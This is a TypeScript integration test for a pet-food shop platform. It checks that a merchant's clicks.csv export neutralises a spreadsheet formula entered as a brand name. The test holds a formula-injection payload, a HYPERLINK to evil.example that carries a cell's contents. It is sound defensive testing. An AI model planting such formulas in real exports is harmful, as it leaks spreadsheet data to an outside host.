import { COLLECTIONS, hashPassword } from '@futterkompass/adapters';
import type { Product, User } from '@futterkompass/domain';
import { aProduct, aVariant } from '@futterkompass/domain/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiClient } from '../../testing/api-client';
import { startSmallApp } from '../../testing/small-app';

const MERCHANT = 'cccccccccccccccccccccccc';
const EDITOR = 'dddddddddddddddddddddddd';
const OFFER = '111111111111111111111111';
const FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Rabatt")';

describe('the merchant’s clicks.csv', () => {
  let app: Awaited<ReturnType<typeof startSmallApp>>;
  let api: ReturnType<typeof apiClient>;

  const account = async (over: Partial<User> & Pick<User, '_id' | 'username' | 'role'>) =>
    app.adapters.store.collection<User>(COLLECTIONS.users).insert({
      email: `${over.username}@example.org`,
      usernameKey: over.username,
      emailKey: `${over.username}@example.org`,
      passwordHash: await hashPassword('geheim123'),
      status: 'active',
      verified: true,
      createdAt: '2026-01-01T00:00:00.000Z',
      favorites: [],
      negFavorites: [],
      ...over,
    });

  beforeAll(async () => {
    app = await startSmallApp();
    api = apiClient(app.url, app.adapters.store);
    await account({ _id: EDITOR, username: 'redakteurin', role: 'editor' });
    await account({
      _id: MERCHANT,
      username: 'napfladen',
      role: 'merchant',
      shop: { shopName: 'Napfladen', url: 'https://napfladen.example/' },
    });
  });
  afterAll(() => app.close());

  it('escapes a formula an editor typed as a brand, so that a spreadsheet shows it as text', async () => {
    const editor = await api.login('redakteurin', 'geheim123');
    const brand = await api.post('/api/admin/brands', { name: FORMULA }, editor);
    expect(brand.status).toBe(200);
    await app.adapters.store.collection<Product>(COLLECTIONS.products).insert(
      aProduct({
        brand: brand.body.brand._id,
        series: '+Sorte',
        variants: [aVariant({ _id: OFFER, network: 'b2b', owner: MERCHANT, link: '/dose' })],
      }),
    );
    const click = await fetch(`${app.url}/weiter/${OFFER}`, {
      redirect: 'manual',
      headers: {
        'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Chrome/131.0',
        'x-forwarded-for': '203.0.113.9',
      },
    });
    expect(click.status).toBe(302);

    const merchant = await api.login('napfladen', 'geheim123');
    const csv = await fetch(`${app.url}/api/b2b/clicks.csv`, { headers: { token: merchant } });
    const [header, row, ...rest] = (await csv.text())
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(header).toBe('Zeitpunkt;Produkt;Angebot;Seite');
    expect(rest).toEqual([]);
    const product = row?.split(';')[1];
    // csv-stringify quotes the cell for its inner quotes; inside, the apostrophe comes first.
    expect(product).toBe(`"'${FORMULA.replaceAll('"', '""')} +Sorte"`);
  });
});
